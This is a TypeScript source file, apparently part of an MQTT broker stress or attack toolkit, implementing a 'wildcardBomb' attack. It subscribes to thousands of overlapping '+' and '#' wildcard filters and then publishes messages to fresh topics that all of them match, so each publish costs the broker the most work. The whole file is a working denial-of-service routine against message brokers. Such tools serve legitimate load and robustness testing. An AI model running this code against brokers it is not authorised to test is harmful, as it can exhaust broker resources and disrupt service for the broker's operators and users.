import type { QoS } from '@cauldron/protocol';
import { Assault } from './assault.ts';
import { type Attack, type AttackOptions, type AttackTarget, planOf } from './attack.ts';
import { publish, subscribe } from './packets.ts';

export interface WildcardBombOptions extends AttackOptions {
  /** Levels of which each is `+` or a name in one of the filters: 2^levels filters match one topic. Default 12. */
  readonly levels?: number;
  readonly qos?: QoS;
}

/** Filters in one SUBSCRIBE. */
const BATCH = 1024;

/**
 * Subscribes to every mixture of `+` and `a` over so many levels, with `#` behind it, and then publishes what all of
 * them match, each time to a topic of its own so that no answer is remembered. An action is a SUBSCRIBE or a publish.
 */
export function wildcardBomb(target: AttackTarget, options: WildcardBombOptions = {}): Attack {
  const { levels = 12, qos = 0 } = options;
  const assault = new Assault(target, planOf({ rate: 0, clients: 1 }, options));
  const { random } = assault;
  return assault.crew((client) => {
    const at = client.step * BATCH;
    client.step += 1;
    const filters: string[] = [];
    for (let mask = at; mask < Math.min(at + BATCH, 2 ** levels); mask += 1) filters.push(`${mixture(levels, mask)}/#`);
    if (filters.length > 0) client.send(subscribe(filters, qos));
    else client.send(publish(`${mixture(levels, 0)}/${random.next()}`));
  });
}

const mixture = (levels: number, mask: number): string =>
  Array.from({ length: levels }, (_, level) => ((mask >> level) & 1 ? '+' : 'a')).join('/');
